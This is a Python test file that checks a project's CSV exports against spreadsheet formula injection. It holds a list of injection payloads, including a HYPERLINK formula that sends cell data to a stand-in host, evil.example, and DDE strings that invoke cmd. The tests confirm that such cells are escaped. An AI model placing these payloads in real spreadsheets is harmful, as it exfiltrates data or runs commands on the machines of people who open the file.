"""Spreadsheet formula injection (OWASP CSV Injection): no exported CSV cell
starts a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from types import SimpleNamespace

import pytest

from tps.core.csvsafe import csv_text, safe_cell
from tps.governance.metrics import AccountMetrics, Summary, account_csv
from tps.units.directory import load_directory
from tps.units.generator import UnitsGenerator

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_written_as_text(payload):
    [row] = cells(csv_text([{"handle": payload, "n": -3}], ["handle", "n"]))
    assert row["handle"] == "'" + payload
    assert row["n"] == "-3"  # numbers are left alone


def test_plain_cells_are_unchanged():
    for value in ("TPS22Div", "a=b", "", "22 Division", "2026-11-25"):
        assert safe_cell(value) == value


def test_the_public_registry_csv_neutralises_formulas(content_copy, tmp_path):
    path = content_copy / "units/22-division.yaml"
    text = path.read_text()
    assert "- name: Marcus Bell" in text
    path.write_text(
        text.replace("- name: Marcus Bell", f"- name: {json.dumps(PAYLOADS[3])}", 1)
    )
    directory, problems = load_directory(content_copy)
    assert not problems, problems
    UnitsGenerator._write_registry_files(
        SimpleNamespace(directory=directory, output_path=str(tmp_path))
    )
    rows = cells((tmp_path / "social-media/accounts/accounts.csv").read_text())
    members = {row["member"] for row in rows}
    assert "'" + PAYLOADS[3] in members and PAYLOADS[3] not in members
    assert all(
        value.lstrip(" \n")[:1] not in "=+-@\t\r" or value.startswith("'")
        for row in rows
        for value in row.values()
        if value
    )


def test_the_dashboard_accounts_csv_neutralises_formulas():
    account = AccountMetrics(
        key=f"x:{PAYLOADS[0]}",
        platform="x",
        handle=PAYLOADS[0],
        url="https://x.com/a",
        unit="22-division",
        unit_name="22 Division",
        member=PAYLOADS[1],
        posts_window=4,
        last_post=None,
        days_since_last_post=None,
        stale=False,
        cache_age_days=None,
        last_error=None,
    )
    summary = Summary(
        as_of=dt.datetime(2026, 11, 25, tzinfo=dt.UTC),
        accounts=[account],
        units=[],
        platforms=[],
        findings_window=0,
    )
    [row] = cells(account_csv(summary))
    assert row["handle"] == "'" + PAYLOADS[0]
    assert row["member"] == "'" + PAYLOADS[1]
    assert row["posts_28d"] == "4"
